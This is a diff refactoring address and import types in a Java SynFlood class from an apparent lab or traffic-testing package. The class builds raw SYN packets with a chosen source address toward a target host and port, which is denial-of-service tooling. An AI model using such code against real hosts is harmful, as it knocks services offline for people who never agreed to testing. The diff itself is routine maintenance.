@@ -1,14 +1,14 @@
 package io.tcpcopy.lab;
 
+import io.tcpcopy.flow.Address;
+import io.tcpcopy.flow.Endpoint;
 import io.tcpcopy.inject.InjectCounter;
-import io.tcpcopy.inject.RawSocketSink;
-import io.tcpcopy.inject.TargetGate;
+import io.tcpcopy.inject.raw.RawSocketSink;
+import io.tcpcopy.inject.raw.TargetGate;
 import io.tcpcopy.loop.EventLoop;
 import io.tcpcopy.loop.LoopTimer;
-import io.tcpcopy.net.Endpoint;
 import io.tcpcopy.net.StartException;
 import io.tcpcopy.packet.Checksum;
-import io.tcpcopy.packet.Ipv4Address;
 import io.tcpcopy.packet.Ipv4Header;
 import io.tcpcopy.packet.TcpHeader;
 import java.nio.ByteBuffer;
@@ -73,8 +73,12 @@ public final class SynFlood {
 
     /** Starts it. */
     public static void main(String[] args) throws StartException {
-        Endpoint to = new Endpoint(Ipv4Address.parse(args[1]).orElseThrow(), Integer.parseInt(args[2]));
-        new SynFlood(Ipv4Address.parse(args[0]).orElseThrow(), to, Integer.parseInt(args[3]), Integer.parseInt(args[4]))
+        Endpoint to = new Endpoint(Address.parse(args[1]).orElseThrow(), Integer.parseInt(args[2]));
+        new SynFlood(
+                        Address.parse(args[0]).orElseThrow().bits(),
+                        to,
+                        Integer.parseInt(args[3]),
+                        Integer.parseInt(args[4]))
                 .run();
     }
 
@@ -109,7 +113,7 @@ public final class SynFlood {
                 .ttl(TTL)
                 .protocol(Ipv4Header.PROTOCOL_TCP)
                 .source(from)
-                .destination(to.address());
+                .destination(to.address().bits());
         tcp.wrap(packet, Ipv4Header.MIN_LENGTH)
                 .sourcePort(port)
                 .destinationPort(to.port())
@@ -117,6 +121,6 @@ public final class SynFlood {
                 .headerLength(TcpHeader.MIN_LENGTH)
                 .flags(TcpHeader.SYN)
                 .window(WINDOW);
-        tcp.checksum(Checksum.tcp(packet, from, to.address(), Ipv4Header.MIN_LENGTH, TcpHeader.MIN_LENGTH));
+        tcp.checksum(Checksum.tcp(packet, from, to.address().bits(), Ipv4Header.MIN_LENGTH, TcpHeader.MIN_LENGTH));
     }
 }
